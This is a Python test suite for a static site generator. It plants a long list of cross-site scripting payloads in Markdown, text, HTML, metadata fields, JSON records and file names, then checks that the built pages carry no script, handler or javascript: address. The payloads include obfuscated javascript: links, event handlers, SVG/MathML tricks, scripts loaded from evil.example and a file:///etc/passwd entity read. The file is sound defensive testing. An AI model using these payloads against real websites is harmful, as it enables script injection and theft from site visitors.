"""Nothing that a source holds runs on a page, whatever the format: texts in the manner of attacks on readers of feeds.

Each snippet stands in the body of a Markdown file, of a plain text, of a saved page and of a record, and in every field
that a page shows; the built pages are then read as a browser reads them."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from urllib.parse import urlsplit

import html5lib
import pytest

from tests.conftest import Archive

HIDDEN = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")
LONG = "".join(f"&#0000{ord(c):03d}" for c in "javascript:alert(1)")
SNIPPETS = {
    # scripts in disguise
    "script": "<script>alert(1)</script>",
    "script-case": "<ScRiPt SRC=//evil.example/x.js></sCrIpT >",
    "script-slash": '<script/x src="//evil.example/x.js"></script>',
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-open": "<script src=//evil.example/x.js",
    "script-double": "<<script>alert(1)//<</script>",
    "script-null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script-newline": "<script\n>alert(1)</script\n>",
    "script-type": '<script type=\'application/ld+json\'>{"@context": "evil"}</script>',
    "script-module": "<script type=module>import '//evil.example'</script>",
    "script-wide": "＜script＞alert(1)＜/script＞",
    "script-entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-entities": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "script-utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script-end": "</script><script>alert(1)</script>",
    "title-end": "</title></head><body onload=alert(1)>",
    "text-end": "</textarea></style></noscript></template></plaintext><script>alert(1)</script>",
    "xml": "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    # event handlers
    "on-error": "<img src=x onerror=alert(1)>",
    "on-slash": "<img/src='x'/onerror=alert(1)//",
    "on-quote": '<img """><script>alert(1)</script>">',
    "on-backtick": "<img src=`x`onerror=alert(1)>",
    "on-control": "<img src=x on\x0berror=alert(1) \x0conload=alert(1)>",
    "on-newline": "<b\nonmouseover\n=\nalert(1)>mill</b>",
    "on-focus": "<input autofocus onfocus=alert(1)>",
    "on-toggle": "<details open ontoggle=alert(1)><summary>mill</summary></details>",
    "on-animation": "<p style='animation:x' onanimationstart=alert(1)>mill</p>",
    "on-quoted": '" onmouseover="alert(1)" x="',
    "on-apostrophe": "' onmouseover='alert(1)' x='",
    "on-media": "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "on-marquee": "<marquee onstart=alert(1)>mill</marquee>",
    # addresses
    "js": "<a href='javascript:alert(1)'>mill</a>",
    "js-case": "<a href='JaVaScRiPt:alert(1)'>mill</a>",
    "js-tab": "<a href='jav\tascript:alert(1)'>mill</a>",
    "js-entities": f'<a href="{HIDDEN}">mill</a>',
    "js-long-entities": f"<a href={LONG}>mill</a>",
    "js-space": "<a href=' \x01 javascript:alert(1)'>mill</a>",
    "js-null": "<a href='java\0script:alert(1)'>mill</a>",
    "js-newline": "<a href='java&#10;script&#13;:alert(1)'>mill</a>",
    "js-colon": "<a href='javascript&colon;alert(1)&Tab;'>mill</a>",
    "js-unicode": "<a href='\u2028javascript:alert(1)'>mill</a> <a href='\xa0javascript:alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:MsgBox(1)'>mill</a> <a href='livescript:x'>x</a> <a href='mocha:x'>x</a>",
    "data": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>mill</a>",
    "image-js": "<img src='javascript:alert(1)' lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    "image-srcset": "<picture><source srcset='javascript:alert(1) 1x'><img srcset='data:image/svg+xml,x 2x'></picture>",
    "background": "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>mill</table>",
    # styles
    "style": "<style>body { background: url(javascript:alert(1)) }</style>",
    "style-attribute": "<p style=\"width: expression(alert(1)); -moz-binding: url('//evil.example/x.xml#x')\">mill</p>",
    "style-comment": "<p style='xss:ex/*x*/pression(alert(1))'>mill</p>",
    "style-import": "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style><link href='javascript:x'>",
    # other languages in the page
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg-animate": "<svg><animate attributeName=href values=javascript:alert(1) /><use href='data:image/svg+xml,x#x'/>",
    "svg-foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "math": "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>mill</maction></math>",
    "math-style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>",
    "template": "<template><script>alert(1)</script></template><slot></slot>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # elements that change the page
    "base": "<base href='//evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><meta charset=utf-7>",
    "link": "<link rel=stylesheet href=//evil.example/x.css><link rel=import href=//evil.example/x.html>",
    "frames": "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src=x>",
    "objects": "<object data='data:text/html,x'></object><embed src=//evil.example/x.swf><applet code=x></applet>",
    "form": "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>mill</button></form>",
    "layers": "<layer src=//evil.example></layer><bgsound src=javascript:alert(1)><xml id=x></xml><isindex action=x>",
    "clobber": "<a id=document name=location>mill</a><img name=cookie><form id=body></form>",
    # comments, sections, broken tags
    "comment": "<!-- mill --><!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment-end": "--> mill <!-- --!><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]> ]]>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "broken": '<a href="mill""onclick=alert(1)"<b ="> <///a> <a/ <\u017fcript>alert(1)</\u017fcript>',
    "surrogate": "\u00bcscript\u00bealert(1)\u00bc/script\u00be \u202escript\u202c \ufeff<script\ufeff>1</script>",
    # Markdown's own ways to an address
    "md-link": "[mill](javascript:alert(1)) [mill](<javascript:alert(1)>) [mill](JAVASCRIPT:alert(1))",
    "md-entities": f"[mill]({HIDDEN}) [mill](javascript&colon;alert(1)) [mill](java\\script:alert(1))",
    "md-tab": "[mill](<java\tscript:alert(1)>) [mill](\x01javascript:alert(1)) [mill](%6aavascript:alert(1))",
    "md-data": "[mill](data:text/html;base64,PHNjcmlwdD4=) [mill](vbscript:x) [mill](file:///etc/passwd)",
    "md-title": '[mill](https://example.org "\\" onmouseover=\\"alert(1)") [x](https://example.org \'"><script>\')',
    "md-auto": '<javascript:alert(1)> <JAVASCRIPT:alert(1)> <vbscript:x> <data:text/html,x> <x@y.z"onclick=x>',
    "md-reference": "See [mill] and [quay][r].\n\n[mill]: javascript:alert(1)\n[r]: <data:text/html,x> 'x'",
    "md-image": '![x](javascript:x) ![x"onerror="alert(1)](x.png) ![<script>](x.png "<script>alert(1)</script>")',
    "md-code": '`<script>alert(1)</script>`\n\n```" onclick=alert(1) <script>\n</code></pre><script>1</script>\n```',
    "md-table": "| <script> | <img src=x onerror=alert(1)> |\n|---|:-:|\n| [x](javascript:x) | `</td><script>` |",
    "md-note": 'Mill.[^"><script>]\n\n[^"><script>]: <script>alert(1)</script> [x](javascript:alert(1))',
    "md-nested": "> - **<script>** [![x](javascript:alert(1))](javascript:alert(1))\n>   1. <svg onload=alert(1)>",
    # other templates and formats
    "jinja": "{{ config }} {% raw %} {# x #} {{ ''.__class__ }} ${alert(1)} <%= 1 %>",
    "json": '"}]}</script><script>alert(1)</script>{"a": ["\u2028\u2029\\',
}
ROOT = Path(__file__).parents[1]
NEVER = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "template", "noscript"}
MARKDOWN = set(
    "a p em strong s code pre blockquote ol li table thead tbody tr th td hr br sup section h1 h2 h3 h4 h5 h6".split()
)
PLACES = {"href", "src", "poster", "action", "data", "formaction", "background", "cite", "longdesc", "manifest"}
SCHEMES = {"", "http", "https", "mailto"}
FIELDS = ("title", "dek", "author", "caption", "credit", "dateline", "section", "lang", "slug", "image")
LISTS = ("people", "tags", "aliases")
NAMES = (
    "<img src=x onerror=alert(1)>.md",
    '"><svg onload=alert(1)>.txt',
    "javascript:alert(1).md",
    "' onclick='alert(1).html",
    "<script>alert(1)<script>/--><b>.txt",
    "&lt;script&gt;{{ 1 }}.txt",
    "\u202egpj.exe.txt",
)
STORY = "The mill at Harrowgate burned on Monday, said Mayor Clara Njoroge, who saw it from the quay with her sister."
SAID = "“{}, nobody in this town will ever forget it, and I shall not either,” said Mayor Clara Njoroge."


def written(archive: Archive) -> None:
    """Every snippet in every format and field."""
    records = []
    for name, snippet in SNIPPETS.items():
        snippet = snippet.replace("\0", "\ufffd")  # a file with the character itself is refused: it is no text
        line = " ".join(snippet.split())
        quoted = json.dumps(line, ensure_ascii=False)
        archive.seed(f"{name}.md", f"---\ntitle: {name}\n---\n\n{STORY}\n\n{snippet}\n\n{SAID.format(snippet)}\n")
        archive.seed(f"txt/{name}.txt", f"{line}\n\n{STORY}\n\n{snippet}\n\n{SAID.format(line)}\n")
        archive.seed(f"html/{name}.html", page_with(SNIPPETS[name], line))
        fields = [f"{field}: {quoted}" for field in FIELDS] + [f"{field}: [{quoted}]" for field in LISTS]
        archive.seed(f"fields/{name}.md", "---\n" + "\n".join(fields) + f"\n---\n\n{STORY}\n")
        text = {"title": line, "author": line, "text": f"{STORY}\n\n{SNIPPETS[name]}", "tags": [line], line: line}
        page = {"title": name, "text": f"<html><body><p>{STORY}<p>{SNIPPETS[name]}"}
        records += [text | {"url": f"https://example.org/{name}"}, page | {"url": f"javascript:alert(1)//{name}"}]
    archive.seed("records.jsonl", "".join(json.dumps(record) + "\n" for record in records))
    for name in NAMES:
        archive.seed(f"names/{name}", f"<p>{STORY}</p>" if name.endswith("html") else f"The mill\n\n{STORY}\n")


def page_with(snippet: str, line: str) -> str:
    """A saved page that holds a snippet in its text, its head and its data."""
    data = json.dumps({"@type": "NewsArticle", "headline": line, "author": {"name": line}, "keywords": line})
    return (
        f"<!doctype html><html lang='{line}'><head><title>{line}</title><meta property='og:title' content='{line}'>"
        f"<meta name=author content='{line}'><meta property='og:image' content='javascript:alert(1)'>"
        f"<script type='application/ld+json'>{data}</script></head><body><article><h1>{line}</h1><p>{STORY}</p>"
        f"<p>{snippet}</p><figure><img src='javascript:alert(1)'><figcaption>{line}</figcaption></figure>"
        f"<p>{STORY}</p></article></body></html>"
    )


def made_by_us() -> set[str]:
    """The elements of the templates, of the code that fills them, and of Markdown without raw HTML."""
    files = [*(ROOT / "templates").glob("*.html"), *(ROOT / "sitegen").rglob("*.py")]
    named = {name for file in files for name in re.findall(r"<([a-z][a-z0-9]*)[ >{]", file.read_text("utf-8"))}
    return (named | {"html", "head", "body", "meta", "link", "tbody"} | MARKDOWN) - NEVER


Elements = list[tuple[str, ElementTree.Element]]


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Archive:
    archive = Archive(tmp_path_factory.mktemp("attacks") / "an archive")
    written(archive)
    report = archive.build(jobs=1)
    for problem in report.problems:
        expected = "no such picture" in str(problem) or "without visible text" in str(problem)
        assert expected or problem.stage == "alias", problem
    return archive


@pytest.fixture(scope="module")
def elements(archive: Archive) -> Elements:
    """Every element of every page as a browser makes them, also out of what is not valid."""
    site = archive.root / "site"
    trees = [
        (path.relative_to(site).as_posix(), html5lib.parse(path.read_text("utf-8"), namespaceHTMLElements=False))
        for path in sorted(site.rglob("*.html"))
    ]
    return [(name, element) for name, tree in trees for element in tree.iter()]


def test_every_source_has_its_page(archive: Archive, elements: Elements) -> None:
    articles = {name for name, _ in elements if name.startswith("articles/")}
    assert len(articles) >= len(SNIPPETS) * 6 + len(NAMES) - 20
    words = "".join("".join(element.itertext()) for _, element in elements if element.tag == "article")
    assert all(proof in words for proof in ("<script>alert(1)</script>", "onerror=alert(1)", "{{ config }}"))


def is_of_the_theme(script: ElementTree.Element) -> bool:
    """The script that a list of names has: a file of the theme's, and nothing inline."""
    file = script.attrib.get("src", "").removeprefix("../")
    return file == "filter.js" and script.attrib.keys() == {"src", "defer"} and not script.text


def test_no_element_but_ours(elements: Elements) -> None:
    ours = made_by_us()
    assert "script" not in ours and "iframe" not in ours and "p" in ours
    for name, element in elements:
        if element.tag is ElementTree.Comment:
            raise AssertionError(f"{name}: a comment")
        if element.tag == "script" and not is_of_the_theme(element):
            assert element.attrib == {"type": "application/ld+json"}, name
        elif element.tag != "script":
            assert str(element.tag).rpartition("}")[2] in ours, f"{name}: {element.tag}"


def test_no_handler_no_style_no_address_that_runs(elements: Elements) -> None:
    for name, element in elements:
        for key, value in element.attrib.items():
            attribute = str(key).rpartition("}")[2].lower()
            assert not attribute.startswith("on"), f"{name}: {attribute}"
            assert attribute not in ("style", "srcdoc", "http-equiv", "name" if element.tag != "meta" else ""), name
            if attribute in PLACES:
                assert scheme_of(value) in SCHEMES, f"{name}: {value}"
            if attribute == "srcset":
                assert all(scheme_of(part) in SCHEMES for part in value.split(",")), f"{name}: {value}"


def scheme_of(address: str) -> str:
    """As a browser reads it: blanks and controls before it, line ends and tabs in it are of no account."""
    bare = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", bare)
    return scheme[1].lower() if scheme else ""


def test_a_browser_reads_the_disguises(archive: Archive) -> None:
    """The snippets are attacks: as pages of their own they fail."""
    tree = html5lib.parse("<p>".join(SNIPPETS.values()), namespaceHTMLElements=False)
    addresses = [value for element in tree.iter() for key, value in element.attrib.items() if key == "href"]
    assert sum(scheme_of(address) == "javascript" for address in addresses) > 4
    assert sum(key.startswith("on") for element in tree.iter() for key in map(str, element.attrib)) > 4


def test_pages_load_nothing_from_elsewhere(elements: Elements) -> None:
    for name, element in elements:
        if element.tag in ("img", "source", "link", "script"):
            for key in ("src", "srcset", "href"):
                place = element.get(key, "")
                own = element.get("rel") in ("canonical", "schema.DC") or not urlsplit(place).netloc
                assert own and "evil.example" not in place, f"{name}: {place}"


def test_data_for_search_engines_is_not_broken_out_of(archive: Archive, elements: Elements) -> None:
    data = [element.text or "" for _, element in elements if element.tag == "script" and "src" not in element.attrib]
    assert len(data) > len(SNIPPETS)
    for text in data:
        assert "<" not in text
        assert json.loads(text)["@context"] == "https://schema.org"
    assert any("<script>alert(1)</script>" in json.loads(text).get("headline", "") for text in data)


def test_files_stay_in_the_site(archive: Archive) -> None:
    assert {path.name for path in archive.root.iterdir()} <= {"seeds", "site", "sitegen.toml", ".sitegen"}
    for name in archive.site():
        assert re.fullmatch(r"[\w./-]+", name), name


def test_feeds_and_sitemaps_are_whole(archive: Archive) -> None:
    for path in (archive.root / "site").rglob("*.xml"):
        for element in ElementTree.parse(path).iter():
            for key in ("href", "src"):
                assert scheme_of(element.get(key, "")) in SCHEMES, path
